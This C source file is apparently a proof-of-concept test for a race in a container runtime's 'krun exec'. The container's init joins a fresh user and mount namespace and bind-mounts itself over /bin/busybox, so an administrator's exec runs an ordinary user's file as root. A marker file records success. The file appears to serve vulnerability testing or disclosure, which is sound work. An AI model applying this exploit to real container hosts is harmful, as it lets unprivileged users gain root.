// `krun exec` finds out which namespaces of the container's init are others than its own, and joins these a moment later. Between
// the two the init enters a user namespace of its own, with a mount namespace in which it may mount: krun's child comes along
// into the mounts, but not into the user namespace. What an administrator executes as root is then a file of a user without
// any capability.
#include "attack.h"
#include <sys/mount.h>

#define SIGN "/from-root"

// What was executed in place of the administrator's program: it shows that it is root of the container.
static int executed(void) {
    char map[64] = "";
    int fd = open("/proc/self/uid_map", O_RDONLY);
    if (fd < 0 || read(fd, map, sizeof map - 1) <= 0 || !strstr(map, "4294967295"))
        return 0; // in the attacker's user namespace: no more than the attacker
    if (geteuid() == 0)
        open(SIGN, O_WRONLY | O_CREAT, 0644);
    return 0;
}

// Waits until a process of another user, which cannot be signalled, appears among the next numbers: krun's.
static void wait_for_krun(void) {
    pid_t first = fork(), at = first;
    if (first == 0)
        _exit(0);
    waitpid(first, NULL, 0);
    for (int absent = 0; !attack_over(); at = at < first + 12 ? at + 1 : first + 1) {
        int there = kill(at, 0) < 0 && errno == EPERM;
        if (there && absent > 12)
            break;
        absent = there ? 0 : absent + 1;
    }
}

int main(int argc, char **argv) {
    struct stat st;
    (void)argc;
    if (strcmp(argv[0], "/attack") != 0)
        return executed();
    wait_for_krun(); // so that one exec works
    usleep(100000);
    wait_for_krun();
    if (unshare(CLONE_NEWUSER | CLONE_NEWNS) < 0 || mount("/attack", "/bin/busybox", NULL, MS_BIND, NULL) < 0)
        attack_lost(); // no user namespaces here
    while (!attack_over())
        if (stat(SIGN, &st) == 0)
            attack_won("krun exec has started a file of an ordinary user's in place of root's, as root");
    attack_lost();
}
